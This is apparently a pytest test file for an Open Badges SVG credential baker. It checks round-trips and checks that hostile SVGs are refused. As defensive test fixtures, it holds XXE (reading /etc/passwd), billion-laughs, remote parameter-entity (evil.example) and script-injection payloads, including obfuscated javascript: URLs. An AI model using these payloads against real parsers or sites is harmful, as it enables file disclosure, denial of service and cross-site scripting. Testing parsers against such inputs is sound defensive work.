"""Baking a credential into an SVG and reading it back; hostile SVGs are refused, never parsed into trouble."""

from __future__ import annotations

import json

import pytest
from defusedxml import ElementTree

from badge_support import AWKWARD_JSON, JWS, SAMPLES
from issuer.badges import BakingError, badge_svg, bake_svg, unbake_svg

OB = "https://purl.imsglobal.org/ob/v3p0"
SVG = "http://www.w3.org/2000/svg"
CREDENTIAL = f"{{{OB}}}credential"


@pytest.fixture(scope="module")
def plain_svg() -> str:
    return badge_svg(level_name="Emerging", level_number=1, framework_name="Music Therapists")


def test_reads_1edtechs_json_sample() -> None:
    credential = json.loads(unbake_svg((SAMPLES / "simple-json.svg").read_bytes()))
    assert "OpenBadgeCredential" in credential["type"]


def test_reads_1edtechs_jwt_sample() -> None:
    text = unbake_svg((SAMPLES / "simple-jwt.svg").read_bytes())
    header, payload, signature = text.split(".")
    assert header.startswith("eyJ")
    assert payload
    assert signature


@pytest.mark.parametrize(("credential", "jws"), [(AWKWARD_JSON, False), (JWS, True)])
def test_round_trip_returns_the_exact_text(plain_svg: str, credential: str, jws: bool) -> None:
    baked = bake_svg(plain_svg, credential, jws=jws)
    assert unbake_svg(baked) == credential
    assert unbake_svg(baked.encode("utf-8")) == credential


def test_json_goes_in_cdata_directly_after_the_svg_start_tag(plain_svg: str) -> None:
    baked = bake_svg(plain_svg, AWKWARD_JSON, jws=False)
    start_tag_end = baked.index(">") + 1
    assert f'xmlns:openbadges="{OB}"' in baked[:start_tag_end]
    assert baked[start_tag_end:].startswith("<openbadges:credential><![CDATA[{")
    # "]]>" in the text was split across two CDATA sections, so no raw "<script>" element appeared.
    assert "]]]]><![CDATA[>" in baked
    root = ElementTree.fromstring(baked)
    assert root.tag == f"{{{SVG}}}svg"
    first = root[0]
    assert first.tag == CREDENTIAL
    assert first.get("verify") is None
    assert first.text == AWKWARD_JSON
    assert root.find(f".//{{{SVG}}}script") is None


def test_jws_goes_in_the_verify_attribute_of_an_empty_element(plain_svg: str) -> None:
    root = ElementTree.fromstring(bake_svg(plain_svg, JWS, jws=True))
    first = root[0]
    assert first.tag == CREDENTIAL
    assert first.get("verify") == JWS
    assert not first.text
    assert len(first) == 0


def test_rebaking_replaces_the_element(plain_svg: str) -> None:
    twice = bake_svg(bake_svg(plain_svg, AWKWARD_JSON, jws=False), JWS, jws=True)
    root = ElementTree.fromstring(twice)
    assert len(root.findall(f".//{CREDENTIAL}")) == 1
    assert twice.count("xmlns:openbadges=") == 1
    assert unbake_svg(twice) == JWS


@pytest.mark.parametrize("name", ["simple-json", "simple-jwt"])
def test_rebakes_1edtechs_samples_keeping_their_prolog(name: str) -> None:
    sample = (SAMPLES / f"{name}.svg").read_text(encoding="utf-8")
    rebaked = bake_svg(sample, AWKWARD_JSON, jws=False)
    assert unbake_svg(rebaked) == AWKWARD_JSON
    assert rebaked.startswith('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE svg PUBLIC')
    assert len(ElementTree.fromstring(rebaked.encode("utf-8"), forbid_dtd=False).findall(f".//{CREDENTIAL}")) == 1


def test_bakes_into_awkward_but_valid_svgs() -> None:
    # a comment that looks like a start tag, a ">" inside an attribute value, a prefixed root, a self-closing root
    tricky = (
        '<?xml version="1.0"?><!-- <svg> --><s:svg xmlns:s="http://www.w3.org/2000/svg" data-x="a>b">'
        "<s:rect width='1' height='1'/></s:svg>"
    )
    baked = bake_svg(tricky, JWS, jws=True)
    assert unbake_svg(baked) == JWS
    assert ElementTree.fromstring(baked).get("data-x") == "a>b"
    # a credential baked elsewhere under another prefix is found by namespace and replaced
    other_prefix = f'<svg xmlns="{SVG}" xmlns:ob="{OB}"><g><ob:credential verify="a.b.c"/></g></svg>'
    assert unbake_svg(bake_svg(other_prefix, JWS, jws=True)) == JWS
    empty = bake_svg('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" />', AWKWARD_JSON, jws=False)
    assert unbake_svg(empty) == AWKWARD_JSON


@pytest.mark.parametrize(
    ("svg", "credential", "jws", "message"),
    [
        ("<svg", JWS, True, "not well-formed"),
        ('<html xmlns="http://www.w3.org/1999/xhtml"/>', JWS, True, "not an SVG image"),
        ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', JWS, True, "script"),
        ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="urn:other"/>', JWS, True, "another namespace"),
        ('<svg xmlns="http://www.w3.org/2000/svg"/>', AWKWARD_JSON, True, "not a compact JWS"),
        ('<svg xmlns="http://www.w3.org/2000/svg"/>', JWS, False, "not a JSON object"),
        ('<svg xmlns="http://www.w3.org/2000/svg"/>', '{"a": "\x01"}', False, "control characters"),
    ],
)
def test_baking_refuses_what_it_cannot_bake_faithfully(svg: str, credential: str, jws: bool, message: str) -> None:
    with pytest.raises(BakingError, match=message):
        bake_svg(svg, credential, jws=jws)


XXE = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    f'<svg xmlns="{SVG}" xmlns:openbadges="{OB}"><openbadges:credential>&xxe;</openbadges:credential></svg>'
)
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    f'<svg xmlns="{SVG}"><text>&c;&c;&c;&c;</text></svg>'
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'
    f'<svg xmlns="{SVG}"/>'
)


def _baked(inner: str, *, root_attributes: str = "") -> str:
    return (
        f'<svg xmlns="{SVG}" xmlns:openbadges="{OB}" xmlns:xlink="http://www.w3.org/1999/xlink"{root_attributes}>'
        f"<openbadges:credential><![CDATA[{{}}]]></openbadges:credential>{inner}</svg>"
    )


@pytest.mark.parametrize(
    ("svg", "message"),
    [
        (XXE, "declares entities"),
        (BILLION_LAUGHS, "declares entities"),
        (PARAMETER_ENTITY, "declares entities or external references"),
        (_baked("<script>alert(1)</script>"), r"contains a script or embedded document \(<script>\)"),
        (_baked('<x:script xmlns:x="urn:x"/>'), "script"),
        (_baked("<foreignObject><div/></foreignObject>"), "embedded document"),
        (_baked("", root_attributes=' onload="alert(1)"'), r"event handler attribute \(onload\)"),
        (_baked('<a xlink:href=" java\tscript:alert(1)"><rect/></a>'), "javascript"),
        (_baked('<a href="' + " " * 500 + 'javascript:alert(1)"/>'), "javascript"),
        (_baked('<set attributeName="href" to="javascript:alert(1)"/>'), "javascript"),
        (_baked("<openbadges:credential>{}</openbadges:credential>"), "more than one"),
        (f'<svg xmlns="{SVG}"/>', "holds no openbadges:credential"),
        (f'<svg xmlns="{SVG}" xmlns:openbadges="{OB}"><openbadges:credential/></svg>', "is empty"),
        (_baked("").replace("<openbadges:credential>", '<openbadges:credential verify="a.b.c">'),
         "both a verify attribute and a body"),
        (f'<svg xmlns="{SVG}" xmlns:openbadges="{OB}"><openbadges:credential><g/></openbadges:credential></svg>',
         "child elements"),
        (f'<svg xmlns="{OB}"/>', "root element is not <svg>"),
        (f'<svg xmlns="{SVG}"><unclosed></svg>', "not well-formed"),
        ("", "not well-formed"),
        (b"\xff\xfe<\x00s\x00v\x00g\x00", "not well-formed"),
        (f'<?xml version="1.0" encoding="x-no-such-encoding"?><svg xmlns="{SVG}"/>'.encode(), "unknown encoding"),
        ("<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 300 + "</g>" * 300 + "</svg>", "deeper than 256"),
        ("<svg xmlns='http://www.w3.org/2000/svg'>" + "<g/>" * 100_001 + "</svg>", "more than 100,000 elements"),
    ],
)
def test_hostile_or_broken_svgs_are_refused_with_a_clear_message(svg: str | bytes, message: str) -> None:
    with pytest.raises(BakingError, match=message):
        unbake_svg(svg)


def test_files_over_the_size_limit_are_refused_before_parsing(plain_svg: str) -> None:
    with pytest.raises(BakingError, match="larger than the 100-byte limit"):
        unbake_svg(bake_svg(plain_svg, JWS, jws=True), max_bytes=100)
    with pytest.raises(BakingError, match="credential is larger than the 10-byte limit"):
        unbake_svg(bake_svg(plain_svg, JWS, jws=True), max_credential_bytes=10)


def test_a_plain_doctype_is_accepted_because_1edtech_uses_one(plain_svg: str) -> None:
    doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    assert unbake_svg(doctype + bake_svg(plain_svg, JWS, jws=True)) == JWS
